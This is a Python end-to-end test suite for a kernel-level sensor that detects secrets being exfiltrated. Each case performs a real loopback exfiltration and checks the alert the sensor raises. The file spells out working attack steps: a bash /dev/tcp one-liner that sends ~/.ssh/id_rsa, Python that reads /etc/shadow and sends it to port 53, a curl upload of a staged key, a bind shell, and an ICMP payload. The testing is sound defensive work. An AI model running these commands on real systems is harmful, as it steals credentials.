#!/usr/bin/env python3
"""End-to-end tests of every way a secret leaves (issue 12): real kernel, real
processes, loopback only.

  egress_test.py BARBWIRE SOURCE_ROOT CASE

Each CASE is one function below; meson registers each as `e2e egress_CASE` in
suite 'e2e'. They need root and a build with the sensor; otherwise they exit
77 (skip), or 1 when CI=true. See README.md in this directory.

The sensor runs with its built-in rules (no --config) unless a case says
otherwise. Each attack really does what it names, as root, to a listener this
test opens on 127.0.0.1: a read through the ia32 entry or io_uring, a send by
sendfile, splice, sendmmsg, io_uring, a connected UDP socket, a raw ICMP
socket, DNS's port, a send long after the read, a secret staged in a file by
one session and sent by another, a send on an accepted connection. The paths
Python cannot reach are taken by test/e2e/egress_actor (a C program; its
header comment lists its steps), which meson builds and passes as
$BW_EGRESS_ACTOR. Every case checks the alert the sensor printed (JSON): the
file, its category and how it was opened (`file.via`), the destination
(address, port, protocol, op, whether accepted, its category), which came first
(`order`), how long the secret was kept (`retention`), the relation, the score
with each of its reasons, and that the data really reached the listener.
"""
import json
import os
import re
import select
import shutil
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness as h  # noqa: E402
from harness import check  # noqa: E402

BW = ""
ROOT = ""

SHADOW = "/etc/shadow"
SETTLE = 1.0             # after the first alert, for a second (wrong) one to show up
HELD_WINDOW = 2          # the window of the rules file of the held/inherited cases, s
DNS_PAD = 600            # bytes of a DNS-port send that is larger than a name lookup (512)

# A dummy key (not a real one), long enough that a partial send would show.
DUMMY_KEY = ("-----BEGIN OPENSSH PRIVATE KEY-----\n"
             "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
             "QyNTUxOQAAACBiYXJid2lyZS1lZ3Jlc3MtdGVzdC1rZXktbm90LWEtcmVhbC1vbmUAAAAA\n"
             "YmFyYndpcmUtZWdyZXNzLWUyZS1kdW1teS1rZXktYm9keS1ub3QtYS1yZWFsLW9uZS0tLQ\n"
             "-----END OPENSSH PRIVATE KEY-----\n")


# --------------------------------------------------------------------------- helpers

def egress_actor():
    """The egress_actor binary: $BW_EGRESS_ACTOR (meson), else next to the build's
    sensor (build/test/e2e/egress_actor, for runs without meson)."""
    path = os.environ.get("BW_EGRESS_ACTOR") or os.path.join(
        os.path.dirname(os.path.dirname(BW)), "test", "e2e", "egress_actor")
    if not os.access(path, os.X_OK):
        h.skip_or_fail(f"egress_actor is not built ({path}): meson builds it when liburing is found "
                       f"(apt-get install liburing-dev, then reconfigure)")
    return os.path.realpath(path)


def which_real(name):
    p = shutil.which(name, path="/usr/bin:/bin")
    if p is None:
        h.skip_or_fail(f"{name} is not installed (this test runs the real {name}; apt-get install {name})")
    return os.path.realpath(p)


def make_key(ws):
    """<ws>/home/.ssh/id_rsa holding DUMMY_KEY; returns (home, key), realpath'd."""
    home = ws.path("home")
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    h.write_file(os.path.join(home, ".ssh", "id_rsa"), DUMMY_KEY, mode=0o600)
    home = os.path.realpath(home)
    return home, os.path.join(home, ".ssh", "id_rsa")


def category_of(path):
    """The built-in rules' category (name, base score) for `path`: the highest base
    score among the non-context categories with a pattern in the path."""
    best = None
    for c in h.builtin_rules_json(ROOT)["suspicious_files"]:
        if not c.get("context") and any(p in path for p in c["patterns"]):
            if best is None or c["base_score"] > best["base_score"]:
                best = c
    check(best is not None, f"no built-in category matches {path}; update this test")
    return best["category"], best["base_score"]


def rules_with_window(seconds):
    """The built-in rules as a rules file's text, with another window."""
    rules = h.builtin_rules_json(ROOT)
    rules["window_duration"] = seconds
    return json.dumps(rules, indent=1) + "\n"        # JSON is YAML


def severity_of(score):
    th = h.builtin_rules_json(ROOT)["severity_thresholds"]
    return "HIGH" if score >= th["high"] else "MEDIUM" if score >= th["medium"] else "LOW"


def ctx(a):
    return f"alert: {json.dumps(a, sort_keys=True)}"


def show(label, a):
    """The essentials of an alert on one line, so a run's log says what the sensor chose."""
    p, f, d = (a.get(k) or {} for k in ("process", "file", "destination"))
    print(f"{label}: {p.get('comm')}[{p.get('pid')}] {f.get('path')!r} ({f.get('category')!r}, "
          f"via={f.get('via')!r}) -> {d.get('op')} {d.get('protocol')} {d.get('addr')}:{d.get('port')} "
          f"bytes={d.get('bytes')} accepted={d.get('accepted')} category={d.get('category')!r} | "
          f"order={a.get('order')!r} retention={a.get('retention')!r} relation={a.get('relation')!r} "
          f"score={a.get('score')} {a.get('severity')} {a.get('score_breakdown')}")


def session_alerts(sensor, leader):
    """The alerts (not rate-limit summaries) whose sender is in `leader`'s session."""
    return [a for a in sensor.alerts_in_session(leader) if a.get("type") != "summary"]


def one_alert(sensor, leader):
    got = session_alerts(sensor, leader)
    check(len(got) == 1, f"expected exactly one alert in session {leader}, got {len(got)}:\n"
                         + "\n".join(json.dumps(a, sort_keys=True) for a in got)
                         + f"\nsensor stderr:\n{sensor.stderr()}")
    return got[0]


def settle(sensor, leader, n=1, timeout=h.ALERT_TIMEOUT):
    """Wait for `n` alerts of the session, then a little longer for any others."""
    deadline = time.monotonic() + timeout
    while len(session_alerts(sensor, leader)) < n and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(SETTLE)


def check_egress(a, *, path, op, protocol, port, addr="127.0.0.1", family="ipv4", category=None,
                 via=None, order=None, retention="window", relation="self", accepted=False,
                 dest_category=None, parts=None, pid=None, comm=None, exe=None, reader_pid=None,
                 min_bytes=None):
    """What an alert of these cases must say. `parts`: the expected score_breakdown
    after the file's category (each (reason or compiled regex, points)); the score
    must be their sum and the severity the built-in thresholds' for it."""
    f, d, p = (a.get(k) or {} for k in ("file", "destination", "process"))
    cat, base = category_of(path) if category is None else category
    check(f.get("path") == path, f"file.path {f.get('path')!r} != {path!r}; {ctx(a)}")
    check(f.get("category") == cat, f"file.category {f.get('category')!r} != {cat!r}; {ctx(a)}")
    st = os.stat(path)
    check((f.get("dev"), f.get("ino")) == (st.st_dev, st.st_ino),
          f"file dev/ino {f.get('dev')}/{f.get('ino')} != stat {st.st_dev}/{st.st_ino}; {ctx(a)}")
    check(f.get("via") == via, f"file.via {f.get('via')!r} != {via!r}; {ctx(a)}")
    want = {"op": op, "protocol": protocol, "addr": addr, "port": port, "family": family,
            "accepted": accepted, "category": dest_category}
    got = {k: d.get(k) for k in want}
    check(got == want, f"destination {got} != {want}; {ctx(a)}")
    if min_bytes is not None:
        check(isinstance(d.get("bytes"), int) and d["bytes"] >= min_bytes,
              f"destination.bytes {d.get('bytes')} < {min_bytes}; {ctx(a)}")
    if order is None:
        order = "read, then connect" if op == "connect" else "read, then send"
    check(a.get("order") == order, f"order {a.get('order')!r} != {order!r}; {ctx(a)}")
    cts = a.get("connection_ts_ns")
    if order == "connection, then read, then send":
        check(isinstance(cts, int) and cts < f.get("ts_ns", 0),
              f"connection_ts_ns {cts} should be before the read ({f.get('ts_ns')}); {ctx(a)}")
    elif order == "read, then connect":
        check(cts == a.get("ts_ns"), f"a connect's connection_ts_ns {cts} != its ts_ns {a.get('ts_ns')}; {ctx(a)}")
    elif protocol == "tcp":
        check(isinstance(cts, int) and cts >= f.get("ts_ns", 0),
              f"connection_ts_ns {cts} should be after the read ({f.get('ts_ns')}); {ctx(a)}")
    else:
        check(cts is None, f"a {protocol} send has no connection, but connection_ts_ns is {cts}; {ctx(a)}")
    check(a.get("retention") == retention, f"retention {a.get('retention')!r} != {retention!r}; {ctx(a)}")
    check(a.get("relation") == relation, f"relation {a.get('relation')!r} != {relation!r}; {ctx(a)}")
    bd = a.get("score_breakdown") or []
    expect = [(cat, base)] + list(parts or [])
    check(len(bd) == len(expect), f"score_breakdown {bd} does not have the parts {expect}; {ctx(a)}")
    for part, (reason, points) in zip(bd, expect):
        ok = reason.fullmatch(part.get("reason", "")) if isinstance(reason, re.Pattern) else part.get("reason") == reason
        check(ok and part.get("points") == points, f"score_breakdown part {part} != ({reason!r}, {points}); {ctx(a)}")
    score = sum(points for _, points in expect)
    check(a.get("score") == score, f"score {a.get('score')} != {score}; {ctx(a)}")
    check(a.get("severity") == severity_of(score), f"severity {a.get('severity')!r} != {severity_of(score)!r}; {ctx(a)}")
    if pid is not None:
        check(p.get("pid") == pid, f"process.pid {p.get('pid')} != {pid}; {ctx(a)}")
    if comm is not None:
        check(p.get("comm") == comm, f"process.comm {p.get('comm')!r} != {comm!r}; {ctx(a)}")
    if exe is not None:
        check(p.get("exe") == exe, f"process.exe {p.get('exe')!r} != {exe!r}; {ctx(a)}")
    r = a.get("reader") or {}
    want_reader = reader_pid if reader_pid is not None else (p.get("pid") if relation == "self" else None)
    if want_reader is not None:
        check(r.get("pid") == want_reader, f"reader.pid {r.get('pid')} != {want_reader}; {ctx(a)}")


class EgressActor:
    """egress_actor under bash under timeout, the leader of a session of its own, as
    harness.Actor runs python:

        test --> timeout 60 --> bash -c '"$0" "$@"; exit $?' --> egress_actor ready STEPS...

    It prints its pid and waits ('ready'); the test checks the lineage, then run()
    lets it do STEPS and waits for it to succeed."""

    def __init__(self, *steps, env=None, cwd="/"):
        timeout_bin = shutil.which("timeout") or "/usr/bin/timeout"
        bash = shutil.which("bash") or "/bin/bash"
        self.exe = egress_actor()
        self.argv = [timeout_bin, "60", bash, "-c", '"$0" "$@"; exit $?', self.exe, "ready",
                     *[str(s) for s in steps]]
        env = env or {"PATH": "/usr/bin:/bin", "LANG": "C"}
        self.proc = subprocess.Popen(self.argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                       stderr=subprocess.PIPE, env=env, cwd=cwd, start_new_session=True)
        self.timeout_pid = self.proc.pid
        r, _, _ = select.select([self.proc.stdout], [], [], 10.0)
        line = self.proc.stdout.readline().decode(errors="replace").strip() if r else ""
        m = re.fullmatch(r"ready (\d+)", line)
        if not m:
            self.kill()
            raise h.Failure(f"egress_actor did not say 'ready PID': {line!r}; stderr: {self.proc.stderr.read()!r}")
        self.pid = int(m.group(1))
        st = h.read_file(f"/proc/{self.pid}/status")
        self.bash_pid = int(next(l.split()[1] for l in st.splitlines() if l.startswith("PPid:")))
        comm = h.read_file(f"/proc/{self.bash_pid}/comm").strip()
        check(comm == "bash", f"egress_actor's parent is {comm!r}, expected bash")

    def run(self, timeout=30.0):
        """Let it go; it must succeed. Returns its 'ok STEP' lines."""
        try:
            out, err = self.proc.communicate(b"go\n", timeout=timeout)
        except subprocess.TimeoutExpired:
            self.kill()
            raise h.Failure(f"egress_actor {self.argv[6:]} did not finish within {timeout} s")
        out, err = out.decode(errors="replace"), err.decode(errors="replace")
        check(self.proc.returncode == 0, f"egress_actor {self.argv[6:]} failed (exit {self.proc.returncode}): "
                                         f"{err.strip()}; stdout {out!r}")
        return out.splitlines()

    def kill(self):
        if self.proc.poll() is None:
            self.proc.kill()
            self.proc.wait()


def check_actor_alert(a, actor, **kw):
    """check_egress for an alert of an EgressActor: the sender is the actor (its
    real path and name), its parent bash and its grandparent timeout."""
    check_egress(a, pid=actor.pid, comm="egress_actor", exe=actor.exe, **kw)
    par, gp = a.get("parent") or {}, a.get("grandparent") or {}
    check(par.get("pid") == actor.bash_pid and par.get("comm") == "bash", f"parent {par} != bash; {ctx(a)}")
    check(gp.get("pid") == actor.timeout_pid and gp.get("comm") == "timeout", f"grandparent {gp} != timeout; {ctx(a)}")


def key_case(name, steps, listener, *, expect, data=None):
    """An attack by one EgressActor on the dummy key: steps(key, port) gives its
    steps; `listener` is "tcp" (DataListener), "udp" (UdpReceiver) or "icmp"
    (IcmpReceiver); expect(key, port) gives check_egress's keywords. The listener
    must have received the key (or `data(key)`)."""
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        return None                                            # the built-in rules

    def body(ws, sensor, _):
        lst = {"tcp": h.DataListener, "udp": h.UdpReceiver, "icmp": h.IcmpReceiver}[listener]()
        try:
            key = paths["key"]
            port = getattr(lst, "port", 0)
            actor = EgressActor(*steps(key, port))
            actor.run()
            want = (data(key) if data else DUMMY_KEY).encode()
            check(lst.received(want), f"the {listener} listener did not receive the data")
            settle(sensor, actor.timeout_pid)
        finally:
            lst.close()
        yield
        a = one_alert(sensor, actor.timeout_pid)
        show(name, a)
        check_actor_alert(a, actor, path=key, **expect(key, port))
    return h.Attack(name, body, prepare)


# --------------------------------------------------------------------------- any order

def attack_connect_then_read_dev_tcp():
    """bash opens the connection first (exec 3<>/dev/tcp/127.0.0.1/PORT), sleeps,
    then `cat KEY >&3`: cat, which read the key, sends it on the connection bash
    opened before the read. One alert for cat: op send, order "connection, then
    read, then send", connection_ts_ns before the read, relation self."""
    cat = which_real("cat")
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        return None

    def body(ws, sensor, _):
        lst = h.DataListener()
        try:
            sh = h.Shell('exec 3<>/dev/tcp/127.0.0.1/"$PORT"; sleep 1; cat "$HOME/.ssh/id_rsa" >&3; exec 3>&-',
                         env={"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": paths["home"], "PORT": str(lst.port)})
            sh.wait()
            check(lst.received(DUMMY_KEY.encode()), "the listener did not receive the key")
            settle(sensor, sh.leader)
        finally:
            lst.close()
        yield
        a = one_alert(sensor, sh.leader)
        show("connect_then_read_dev_tcp", a)
        check_egress(a, path=paths["key"], op="send", protocol="tcp", port=lst.port, comm="cat", exe=cat,
                     order="connection, then read, then send", min_bytes=len(DUMMY_KEY))
    return h.Attack("connect_then_read_dev_tcp", body, prepare)


def attack_connect_then_sendfile():
    """egress_actor connects first, then sendfile(2)s the key onto the connection:
    op send, order "connection, then read, then send"."""
    return key_case("connect_then_sendfile",
                    lambda key, port: ["connect", "127.0.0.1", port, "sleep", "0.5", "sendfile", key], "tcp",
                    expect=lambda key, port: dict(op="send", protocol="tcp", port=port, min_bytes=len(DUMMY_KEY),
                                                  order="connection, then read, then send"))


def attack_connect_then_splice():
    """egress_actor connects first, then splice(2)s the key through a pipe onto the
    connection: op send, order "connection, then read, then send"."""
    return key_case("connect_then_splice",
                    lambda key, port: ["connect", "127.0.0.1", port, "sleep", "0.5", "splice", key], "tcp",
                    expect=lambda key, port: dict(op="send", protocol="tcp", port=port, min_bytes=len(DUMMY_KEY),
                                                  order="connection, then read, then send"))


# --------------------------------------------------------------------------- opens on every path

def attack_ia32_open():
    """The key opened through the ia32 compat entry (int $0x80 from a 64-bit
    process), then connect and send: file.via "compat", the kernel's path."""
    return key_case("ia32_open", lambda key, port: ["read-ia32", key, "connect", "127.0.0.1", port, "send"], "tcp",
                    expect=lambda key, port: dict(op="connect", protocol="tcp", port=port, via="compat"))


def attack_io_uring_open():
    """The key opened by IORING_OP_OPENAT into the descriptor table (and read by
    IORING_OP_READ), then connect and send: file.via "io_uring"."""
    return key_case("io_uring_open", lambda key, port: ["read-uring", key, "connect", "127.0.0.1", port, "send"],
                    "tcp", expect=lambda key, port: dict(op="connect", protocol="tcp", port=port, via="io_uring"))


def attack_io_uring_open_fixed():
    """The key opened by IORING_OP_OPENAT into a fixed-file slot (no descriptor at
    all), read from the slot, then connect and send: file.via "io_uring"."""
    return key_case("io_uring_open_fixed",
                    lambda key, port: ["read-uring-fixed", key, "connect", "127.0.0.1", port, "send"], "tcp",
                    expect=lambda key, port: dict(op="connect", protocol="tcp", port=port, via="io_uring"))


# --------------------------------------------------------------------------- sends on every path

def attack_io_uring_send():
    """Connect first, then read the key, then IORING_OP_SEND it: the alert comes
    from the io_uring send (op send, order "connection, then read, then send")."""
    return key_case("io_uring_send",
                    lambda key, port: ["connect", "127.0.0.1", port, "read", key, "uring-send"], "tcp",
                    expect=lambda key, port: dict(op="send", protocol="tcp", port=port, min_bytes=len(DUMMY_KEY),
                                                  order="connection, then read, then send"))


def attack_io_uring_sendmsg_udp():
    """Read the key, then IORING_OP_SENDMSG it as one datagram (unconnected UDP)."""
    return key_case("io_uring_sendmsg_udp", lambda key, port: ["read", key, "uring-sendmsg", "127.0.0.1", port],
                    "udp", expect=lambda key, port: dict(op="send", protocol="udp", port=port,
                                                         min_bytes=len(DUMMY_KEY)))


def attack_sendmmsg_udp():
    """Read the key, then sendmmsg(2) it in two datagrams: one alert (the second
    datagram to the same destination adds nothing), the receiver has both halves."""
    return key_case("sendmmsg_udp", lambda key, port: ["read", key, "sendmmsg", "127.0.0.1", port], "udp",
                    expect=lambda key, port: dict(op="send", protocol="udp", port=port,
                                                  min_bytes=len(DUMMY_KEY) // 2))


def attack_connected_udp_write():
    """Read the key, connect(2) a UDP socket, write(2) the key on it (no address in
    the send at all): op send, protocol udp, the connected destination."""
    return key_case("connected_udp_write", lambda key, port: ["read", key, "udp-connected", "127.0.0.1", port], "udp",
                    expect=lambda key, port: dict(op="send", protocol="udp", port=port, min_bytes=len(DUMMY_KEY)))


def attack_icmp_raw():
    """Read the key, send it as the payload of an ICMP echo request on a raw
    socket: protocol icmp, port 0. The test's raw ICMP socket sees the payload."""
    return key_case("icmp_raw", lambda key, port: ["read", key, "icmp", "127.0.0.1"], "icmp",
                    expect=lambda key, port: dict(op="send", protocol="icmp", port=0, min_bytes=len(DUMMY_KEY)))


# --------------------------------------------------------------------------- DNS's port

def padded_shadow_code(pad):
    """Python actor code: read /etc/shadow and make `data` of it, padded to `pad`
    bytes or more (what an exfiltrator would send in one piece)."""
    return (f"with open({SHADOW!r}, 'rb') as f: data = f.read()\n"
            f"data = data + b'#' * max(0, {pad} - len(data))\n")


def shadow_dns_parts(nbytes):
    """The built-in dns block's part: -2 for a lookup-sized send (<= max_query_bytes),
    oversize_modifier above."""
    dns = h.builtin_rules_json(ROOT).get("dns")
    check(dns is not None, "the built-in rules have no dns block yet (issue 12's rules change has not landed)")
    if nbytes > dns["max_query_bytes"]:
        return [(f"{dns['category']}: {nbytes} bytes, larger than a name lookup", dns["oversize_modifier"])]
    return [(f"{dns['category']}: a name-lookup-sized send", dns["modifier"])]


def bind_53(kind):
    try:
        return h.DataListener("127.0.0.1", 53) if kind == "tcp" else h.UdpReceiver("127.0.0.1", 53)
    except OSError as e:
        raise h.Failure(f"cannot bind 127.0.0.1:53/{kind} to receive the exfiltration ({e}); "
                        f"is a resolver listening there?")


def attack_dns_udp_53():
    """python reads /etc/shadow and sends it, padded past 512 bytes, in ONE UDP
    datagram to 127.0.0.1:53: DNS's port is no allowlist. HIGH: the category's
    points, the dns part at 0 (larger than a name lookup), destination.category dns."""
    def body(ws, sensor, _):
        rcv = bind_53("udp")
        try:
            actor = h.Actor(padded_shadow_code(DNS_PAD)
                            + "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
                              "n = s.sendto(data, ('127.0.0.1', 53))\n"
                              "print('sent', n, flush=True)\n", new_session=True)
            rep = actor.run()
            sent = int(rep["sent"])
            check(sent >= DNS_PAD, f"the actor sent {sent} bytes, expected >= {DNS_PAD}")
            check(rcv.received(h.read_file(SHADOW, "rb")), "the receiver on 127.0.0.1:53 did not get /etc/shadow")
            settle(sensor, actor.timeout_pid)
        finally:
            rcv.close()
        yield
        a = one_alert(sensor, actor.timeout_pid)
        show("dns_udp_53", a)
        check_egress(a, path=SHADOW, op="send", protocol="udp", port=53, pid=actor.pid, exe=h.PY_REAL,
                     dest_category="dns", parts=shadow_dns_parts(sent), min_bytes=sent)
        check(a["severity"] == "HIGH", f"/etc/shadow in one {sent}-byte datagram to :53 is not HIGH; {ctx(a)}")
    return h.Attack("dns_udp_53", body)


def attack_dns_tcp_53():
    """python reads /etc/shadow, connects to 127.0.0.1:53 (TCP) and sends it padded
    past 512 bytes. Two alerts: the connect, MEDIUM (the category's points, -2 for
    a lookup-sized exchange on DNS's port), then the send, HIGH (larger than a name
    lookup: 0): an escalation is alerted."""
    def body(ws, sensor, _):
        lst = bind_53("tcp")
        try:
            actor = h.Actor(padded_shadow_code(DNS_PAD)
                            + "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                              "s.connect(('127.0.0.1', 53))\n"
                              "time.sleep(0.5)\n"
                              "s.sendall(data)\n"
                              "print('sent', len(data), flush=True)\n"
                              "s.close()\n", new_session=True)
            rep = actor.run()
            sent = int(rep["sent"])
            check(lst.received(h.read_file(SHADOW, "rb")), "the listener on 127.0.0.1:53 did not get /etc/shadow")
            settle(sensor, actor.timeout_pid, n=2)
        finally:
            lst.close()
        yield
        got = session_alerts(sensor, actor.timeout_pid)
        for a in got:
            show("dns_tcp_53", a)
        check(len(got) == 2, f"expected two alerts (the connect, MEDIUM; the >512-byte send, HIGH), got "
                             f"{len(got)}:\n" + "\n".join(json.dumps(a, sort_keys=True) for a in got)
                             + f"\nsensor stderr:\n{sensor.stderr()}")
        conn, send = got
        check_egress(conn, path=SHADOW, op="connect", protocol="tcp", port=53, pid=actor.pid,
                     dest_category="dns", parts=shadow_dns_parts(0))
        check(conn["severity"] == "MEDIUM", f"the connect to :53 should be MEDIUM; {ctx(conn)}")
        check_egress(send, path=SHADOW, op="send", protocol="tcp", port=53, pid=actor.pid,
                     dest_category="dns", parts=shadow_dns_parts(send["destination"]["bytes"]),
                     min_bytes=513)
        check(send["severity"] == "HIGH", f"the >512-byte send to :53 should be HIGH; {ctx(send)}")
    return h.Attack("dns_tcp_53", body)


# --------------------------------------------------------------------------- time

HELD_REASON = re.compile(r"held (\d+\.\d{3}) s past the read")
INHERITED_REASON = re.compile(r"inherited (\d+\.\d{3}) s past the read")


def held_parts(kind):
    held = h.builtin_rules_json(ROOT).get("held")
    check(held is not None and held.get("enabled"), f"the built-in rules hold no secrets past the window: {held}")
    return [(HELD_REASON if kind == "held" else INHERITED_REASON, held["modifier"])]


def check_age(a, regex, at_least):
    part = next((p for p in a.get("score_breakdown") or [] if regex.fullmatch(p.get("reason", ""))), None)
    check(part is not None, f"no {regex.pattern!r} part in the breakdown; {ctx(a)}")
    age = float(regex.fullmatch(part["reason"]).group(1))
    check(age >= at_least, f"the secret was held {age} s, expected >= {at_least} s; {ctx(a)}")
    check(a.get("delta_ns", 0) >= at_least * 1e9, f"delta_ns {a.get('delta_ns')} < {at_least} s; {ctx(a)}")


def attack_held_past_window():
    """Rules: the built-in ones with a 2 s window. egress_actor reads the key,
    sleeps 3 s (past the window), then connects and sends it: it still holds it.
    One alert: retention held, the held modifier in the breakdown (MEDIUM)."""
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        return rules_with_window(HELD_WINDOW)

    def body(ws, sensor, _):
        lst = h.DataListener()
        try:
            actor = EgressActor("read", paths["key"], "sleep", HELD_WINDOW + 1, "connect", "127.0.0.1", lst.port,
                                "send")
            actor.run()
            check(lst.received(DUMMY_KEY.encode()), "the listener did not receive the key")
            settle(sensor, actor.timeout_pid)
        finally:
            lst.close()
        yield
        a = one_alert(sensor, actor.timeout_pid)
        show("held_past_window", a)
        check_actor_alert(a, actor, path=paths["key"], op="connect", protocol="tcp", port=lst.port,
                          retention="held", parts=held_parts("held"))
        check_age(a, HELD_REASON, HELD_WINDOW + 1)
    return h.Attack("held_past_window", body, prepare)


def attack_inherited_past_window():
    """Rules: the built-in ones with a 2 s window. python reads the key, sleeps 3 s,
    forks; the child (no exec: it has the parent's memory) connects and sends the
    key. One alert for the child: retention inherited, relation ancestor, the reader
    the parent, the inherited modifier in the breakdown."""
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        return rules_with_window(HELD_WINDOW)

    def body(ws, sensor, _):
        lst = h.DataListener()
        try:
            code = (f"with open({paths['key']!r}, 'rb') as f: data = f.read()\n"
                    f"time.sleep({HELD_WINDOW + 1})\n"
                    "pid = os.fork()\n"
                    "if pid == 0:\n"
                    "    try:\n"
                    "        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                    f"        s.connect(('127.0.0.1', {lst.port}))\n"
                    "        s.sendall(data)\n"
                    "        s.close()\n"
                    "        print('child', os.getpid(), flush=True)\n"
                    "    finally:\n"
                    "        os._exit(0)\n"
                    "_, st = os.waitpid(pid, 0)\n"
                    "assert st == 0, st\n")
            actor = h.Actor(code, new_session=True)
            rep = actor.run()
            child = int(rep["child"])
            check(lst.received(DUMMY_KEY.encode()), "the listener did not receive the key")
            settle(sensor, actor.timeout_pid)
        finally:
            lst.close()
        yield
        a = one_alert(sensor, actor.timeout_pid)
        show("inherited_past_window", a)
        check_egress(a, path=paths["key"], op="connect", protocol="tcp", port=lst.port, pid=child, exe=h.PY_REAL,
                     retention="inherited", relation="ancestor", reader_pid=actor.pid, parts=held_parts("inherited"))
        check_age(a, INHERITED_REASON, HELD_WINDOW + 1)
    return h.Attack("inherited_past_window", body, prepare)


# --------------------------------------------------------------------------- staging

def attack_staged_across_sessions():
    """Session A: `cat KEY > <ws>/staged` (cat read the key and wrote the file: a
    derived secret). Session B, started after A ended (setsid: no family of A's):
    curl --data-binary @<ws>/staged to the listener. One alert for curl: file.path
    the staged file, its category the key's, file.derived_from the key (read and
    written by A's cat)."""
    cat, curl = which_real("cat"), which_real("curl")
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        paths["staged"] = os.path.join(os.path.realpath(ws.dir), "staged")
        return None

    def body(ws, sensor, lst):
        env = {"PATH": "/usr/bin:/bin", "LANG": "C", "HOME": paths["home"], "STAGED": paths["staged"]}
        a_sh = h.Shell('cat "$HOME/.ssh/id_rsa" > "$STAGED"', env=env)
        a_sh.wait()
        check(h.read_file(paths["staged"]) == DUMMY_KEY, "session A did not stage the key")
        time.sleep(1.0)
        b_sh = h.Shell(f'curl -sS -o /dev/null --max-time 10 --data-binary @"$STAGED" http://127.0.0.1:{lst.port}/',
                       env=env)
        b_sh.wait()
        check(lst.received(DUMMY_KEY.encode()), f"the listener did not receive the staged key: {lst.bodies()}")
        settle(sensor, b_sh.leader)
        yield
        check(session_alerts(sensor, a_sh.leader) == [], f"session A sent nothing: {session_alerts(sensor, a_sh.leader)}")
        a = one_alert(sensor, b_sh.leader)
        show("staged_across_sessions", a)
        check_egress(a, path=paths["staged"], category=category_of(paths["key"]), op="connect", protocol="tcp",
                     port=lst.port, comm="curl", exe=curl)
        d = (a.get("file") or {}).get("derived_from") or {}
        check(d.get("path") == paths["key"], f"file.derived_from.path {d.get('path')!r} != {paths['key']!r}; {ctx(a)}")
        check(d.get("category") == category_of(paths["key"])[0], f"file.derived_from.category; {ctx(a)}")
        st = os.stat(paths["key"])
        check((d.get("dev"), d.get("ino")) == (st.st_dev, st.st_ino), f"file.derived_from dev/ino; {ctx(a)}")
        w = d.get("writer") or {}
        check(w.get("comm") == "cat" and w.get("exe") == cat, f"file.derived_from.writer {w} is not cat; {ctx(a)}")
        check(d.get("written_path") == paths["staged"], f"file.derived_from.written_path; {ctx(a)}")
        check(d.get("read_ts_ns", 0) <= d.get("written_ts_ns", 0) <= a["file"]["ts_ns"],
              f"read, write and re-read are out of order; {ctx(a)}")
    return h.Attack("staged_across_sessions", body, prepare, listener="http")


# --------------------------------------------------------------------------- bind shell

def attack_bind_shell_accepted():
    """A bind shell: python reads the key, listens on 127.0.0.1, and sends the key
    on the connection it ACCEPTS (the test connects and receives). One alert:
    op send, destination the test's client address, destination.accepted true."""
    paths = {}

    def prepare(ws):
        paths["home"], paths["key"] = make_key(ws)
        return None

    def body(ws, sensor, _):
        code = (f"with open({paths['key']!r}, 'rb') as f: data = f.read()\n"
                "l = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                "l.bind(('127.0.0.1', 0))\n"
                "l.listen(1)\n"
                "print('port', l.getsockname()[1], flush=True)\n"
                "c, peer = l.accept()\n"
                "c.sendall(data)\n"
                "c.close()\n")
        actor = h.Actor(code, new_session=True)
        actor.go()
        line = actor._readline(10.0)
        check(line.startswith("port "), f"the bind shell did not say its port: {line!r}")
        c = socket.create_connection(("127.0.0.1", int(line.split()[1])), timeout=10)
        client_port = c.getsockname()[1]
        got = b""
        try:
            while True:
                chunk = c.recv(65536)
                if not chunk:
                    break
                got += chunk
        finally:
            c.close()
        actor.wait()
        check(got == DUMMY_KEY.encode(), f"the test's connection received {got!r}, not the key")
        settle(sensor, actor.timeout_pid)
        yield
        a = one_alert(sensor, actor.timeout_pid)
        show("bind_shell_accepted", a)
        check_egress(a, path=paths["key"], op="send", protocol="tcp", port=client_port, accepted=True,
                     pid=actor.pid, exe=h.PY_REAL, min_bytes=len(DUMMY_KEY))
    return h.Attack("bind_shell_accepted", body, prepare)


# --------------------------------------------------------------------------- registration

ATTACKS = ("connect_then_read_dev_tcp", "connect_then_sendfile", "connect_then_splice",
           "ia32_open", "io_uring_open", "io_uring_open_fixed",
           "io_uring_send", "io_uring_sendmsg_udp", "sendmmsg_udp", "connected_udp_write", "icmp_raw",
           "dns_udp_53", "dns_tcp_53",
           "held_past_window", "inherited_past_window",
           "staged_across_sessions", "bind_shell_accepted")

h.register_attack_cases(globals(), ATTACKS)


if __name__ == "__main__":
    sys.exit(h.run_cases(globals(), __doc__, "egress_test"))
